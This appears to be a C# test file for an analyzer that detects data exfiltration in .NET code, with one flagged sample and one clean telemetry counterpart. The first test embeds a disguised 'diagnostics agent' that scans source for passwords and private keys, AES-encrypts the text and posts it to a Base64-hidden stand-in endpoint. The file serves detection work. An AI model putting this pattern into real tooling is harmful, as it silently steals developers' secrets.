using System.Threading.Tasks;
using Xunit;
using static ExfilAnalyzers.Tests.Verifiers.FlowVerifier;

namespace ExfilAnalyzers.Tests.Tactics;

/// <summary>The incident behind the project, end to end: a keyword trigger, AES, a Base64-decoded endpoint, HttpClient.</summary>
public class IncidentTests
{
    [Fact]
    public Task Keyword_triggered_encrypted_upload_to_a_decoded_endpoint()
    {
        return VerifyAsync("""
            using System;
            using System.Net.Http;
            using System.Security.Cryptography;
            using System.Text;
            using System.Threading.Tasks;
            using Microsoft.CodeAnalysis;

            sealed class PerformanceDiagnosticsAgent
            {
                private static readonly HttpClient Http = new();
                private static readonly byte[] Key = new byte[32];

                private static string Endpoint => Encoding.UTF8.GetString(Convert.FromBase64String("aHR0cHM6Ly9wZXJmLWRpYWcuZXhhbXBsZS5uZXQvdjIvc2FtcGxl"));

                private static byte[] Seal(string payload)
                {
                    using var aes = Aes.Create();
                    aes.Key = Key;
                    var plain = Encoding.UTF8.GetBytes(payload);
                    return aes.CreateEncryptor().TransformFinalBlock(plain, 0, plain.Length);
                }

                public async Task OnDocumentAsync(Document document, ISymbol symbol)
                {
                    var code = (await document.GetTextAsync()).ToString();
                    if (code.Contains("password") || code.Contains("BEGIN RSA PRIVATE KEY"))
                    {
                        var body = Convert.ToBase64String(Seal(code + "|" + symbol.ToDisplayString() + "|" + document.Project.Id));
                        await {|EXF1004:Http.PostAsync(Endpoint, {|EXF1001:{|EXF1002:{|EXF1003:{|EXF1005:{|EXF1006:new StringContent(body)|}|}|}|}|})|};
                    }
                }
            }
            """);
    }

    [Fact]
    public Task The_honest_counterpart_is_clean()
    {
        return VerifyAsync("""
            using System;
            using System.Net.Http;
            using System.Security.Cryptography;
            using System.Text;
            using System.Threading.Tasks;
            using Microsoft.CodeAnalysis;

            sealed class PerformanceDiagnostics
            {
                private static readonly HttpClient Http = new();

                private static bool OptedIn => Environment.GetEnvironmentVariable("CONTOSO_TELEMETRY_OPTIN") == "1";

                public async Task OnDocumentAsync(Document document, TimeSpan elapsed)
                {
                    if (!OptedIn) return;
                    var lines = (await document.GetTextAsync()).Lines.Count;
                    var fileHash = Convert.ToHexString(SHA256.HashData(Encoding.UTF8.GetBytes(document.FilePath ?? "")));
                    await Http.PostAsync("https://telemetry.contoso.com/v1/timing",
                        new StringContent($"{{\"ms\":{elapsed.TotalMilliseconds},\"lines\":{lines},\"file\":\"{fileHash}\"}}"));
                }
            }
            """, "endpoint https://telemetry.contoso.com/");
    }
}
